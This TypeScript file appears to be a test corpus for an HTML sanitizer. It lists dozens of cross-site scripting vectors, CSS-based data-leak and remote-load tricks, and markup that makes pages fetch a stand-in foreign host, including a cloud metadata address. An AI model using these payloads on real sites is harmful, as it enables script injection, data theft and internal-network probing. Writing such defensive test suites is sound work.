import { FOREIGN, inMarkup, SCRIPT } from './vector.ts';
import type { Attempt } from './vector.ts';

const S = SCRIPT;
const IMG = `<img src=x: onerror=${S}>`;

const SCRIPTS: readonly string[] = [
  `<script>${S}</script>`,
  `<SCRIPT>${S}</SCRIPT>`,
  `<script\n>${S}</script\n>`,
  `<script/x>${S}</script/x>`,
  `<script x=">" >${S}</script>`,
  `<script type=module>${S}</script>`,
  `<script type="text/javascript;version=1.8">${S}</script><script type=text/ecmascript>${S}</script>`,
  `<script language=javascript>${S}</script>`,
  `<script src="data:text/javascript,${S}"></script>`,
  `<script async defer src="data:,${S}"></script>`,
  `<script src="${FOREIGN}/a.js"></script>`,
  `<scr<script>ipt>${S}</scr</script>ipt><script>${S}</script>`,
  `<<script>${S}//<</script>`,
  `<script>${S}`,
  `</p><script>${S}</script><p>`,
  `<!--[if gte IE 4]><script>${S}</script><![endif]--><script>${S}</script>`,
  `<!--><script>${S}</script>-->`,
  `<svg><script>${S}</script></svg>`,
  `<svg><script href="data:text/javascript,${S}"/></svg>`,
  `<svg><script xlink:href="data:,${S}"></script></svg>`,
  `<math><script>${S}</script></math><script>${S}</script>`,
  `<template><script>${S}</script></template><script>${S}</script>`,
  `<div><template shadowrootmode=open><script>${S}</script>${IMG}</template></div>`,
  `<noscript><style></noscript>${IMG}</style></noscript>`,
  `<select><option><script>${S}</script></select>`,
  `<table><script>${S}</script></table>`,
  `<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${S}</h:script></svg><script>${S}</script>`,
  `<applet code=javascript:${S}></applet>${IMG}`,
  `<frameset onload=${S}><frame src="javascript:${S}"></frameset>${IMG}`,
  `<portal src="javascript:${S}"></portal>${IMG}`,
  `<xml id=x><![CDATA[${IMG}]]></xml>${IMG}`,
  `<?xml version="1.0"?><?php ${IMG} ?>`,
];

const STYLES: readonly string[] = [
  `<style>@import url(${FOREIGN}/i.css);</style>`,
  `<style>@import "${FOREIGN}/j.css";</style>`,
  `<style>p{background:url(${FOREIGN}/b.png)}</style>`,
  `<style>@font-face{font-family:f;src:url(${FOREIGN}/f.woff2)}p{font-family:f}</style>`,
  `<style>p::before{content:url(${FOREIGN}/c.png)}</style>`,
  `<style>*{cursor:url(${FOREIGN}/u.cur),auto}</style>`,
  `<style>li{list-style:url(${FOREIGN}/l.png)}</style><ul><li>word</ul>`,
  `<style>p{background:image-set("${FOREIGN}/s.png" 1x)}</style>`,
  `<style>@keyframes k{}p{animation:k 1s}</style><p onanimationstart=${S}>word`,
  `<style>a[href^="h"]{background:url(${FOREIGN}/leak)}</style><a href="http://a.test">word</a>`,
  `<p style="background:url(${FOREIGN}/1.png)">word`,
  `<p style="background:url('javascript:${S}')">word</p>${IMG}`,
  `<p style="width:expression(${S})">word</p>${IMG}`,
  `<p style="-moz-binding:url(${FOREIGN}/x.xml#y);behavior:url(${FOREIGN}/x.htc);background:url(${FOREIGN}/m)">word`,
  `<p style="background:\\75 rl(${FOREIGN}/2.png)">word`,
  `<p style="background:u/**/rl(x);border-image:url(${FOREIGN}/3.png) 1;border-style:solid">word`,
  `<p style="transition:opacity 1ms;opacity:.5" ontransitionend=${S} onclick=${S}>word`,
  `<div style="position:fixed;inset:0;background:url(${FOREIGN}/cover)"><a href="javascript:${S}">word</a></div>`,
  `<link rel=stylesheet href="${FOREIGN}/s.css">`,
  `<link rel=stylesheet href="data:text/css,@import url(${FOREIGN}/d.css)">`,
  `<svg><style>@import url(${FOREIGN}/svg.css);</style></svg>`,
  `<svg><rect style="fill:url(${FOREIGN}/p.svg#a);mask:url(${FOREIGN}/m.svg#b)" width=9 height=9 /></svg>${IMG}`,
];

const REQUESTS: readonly string[] = [
  ...['http://foreign.test/a.png', '//foreign.test/b.png', 'https:foreign.test/c.png', '\\\\foreign.test\\d.png', 'http://169.254.169.254/latest/meta-data/', 'http://[::1]:80/e.png', 'http://0x7f000001/f.png', 'http://foreign.test\u3002/g.png'].map((url) => `<img src="${url}">`),
  `<img srcset="${FOREIGN}/1.png 1x, ${FOREIGN}/2.png 2x">`,
  `<img src="data:," srcset="${FOREIGN}/w.png 100w" sizes=100vw>`,
  `<img loading=lazy data-src="${FOREIGN}/lazy.png" src="${FOREIGN}/eager.png">`,
  `<picture><source srcset="${FOREIGN}/p.webp"><img src=x:></picture>`,
  `<video autoplay src="${FOREIGN}/v.mp4" poster="${FOREIGN}/p.jpg"></video>`,
  `<audio autoplay src="${FOREIGN}/a.mp3"></audio>`,
  `<video><source src="${FOREIGN}/s.mp4"><track default src="${FOREIGN}/t.vtt"></video>`,
  `<iframe src="${FOREIGN}/frame"></iframe>`,
  `<iframe srcdoc="&lt;img src=${FOREIGN}/srcdoc.png&gt;"></iframe>`,
  `<object data="${FOREIGN}/o.swf" type=image/svg+xml></object>`,
  `<object><param name=movie value="${FOREIGN}/p.swf"><embed src="${FOREIGN}/e.swf"></object>`,
  `<input type=image src="${FOREIGN}/i.png">`,
  `<body background="${FOREIGN}/body.png">`,
  `<table background="${FOREIGN}/t.png"><tr><td background="${FOREIGN}/td.png">word</table>`,
  `<meta http-equiv=refresh content="0; url=${FOREIGN}/refresh">`,
  `<base href="${FOREIGN}/"><img src=based.png>`,
  ...['preload" as="image', 'prefetch', 'modulepreload', 'icon', 'manifest', 'prerender', 'preconnect', 'dns-prefetch'].map((rel) => `<link rel="${rel}" href="${FOREIGN}/${rel.slice(0, 4)}.js"><img src="${FOREIGN}/l.png">`),
  `<svg><image href="${FOREIGN}/s.png" width=9 height=9 /></svg>`,
  `<svg><image xlink:href="${FOREIGN}/x.png" width=9 height=9 /></svg>`,
  `<svg><use href="${FOREIGN}/u.svg#a"/></svg><img src="${FOREIGN}/u">`,
  `<svg><filter id=f><feImage href="${FOREIGN}/fe.png"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  `<svg><foreignObject><iframe src="${FOREIGN}/fo"></iframe></foreignObject></svg>`,
  `<math><mglyph src="${FOREIGN}/g.png"/></math><img src="${FOREIGN}/g">`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${FOREIGN}/spec"]}]}</script><img src="${FOREIGN}/sp">`,
  `<script type=importmap>{"imports":{"a":"${FOREIGN}/a.js"}}</script><script type=module>import "a"</script>`,
  `<a ping="${FOREIGN}/ping" href="#x">word</a><img src="${FOREIGN}/pi">`,
  `<form action="${FOREIGN}/f" target=t><input name=a><button autofocus>word</button></form><iframe name=t src="${FOREIGN}/t"></iframe>`,
  `<frameset><frame src="${FOREIGN}/frame2"></frameset><iframe src="${FOREIGN}/f3"></iframe>`,
];

/** Script elements, style sheets and attributes, and everything that a page loads by itself. */
export function elements(): readonly Attempt[] {
  const all = (family: string, payloads: readonly string[]): Attempt[] =>
    payloads.map((payload, index) => inMarkup(family, `${family} ${index + 1}`, payload));
  return [...all('script', SCRIPTS), ...all('css', STYLES), ...all('request', REQUESTS)];
}
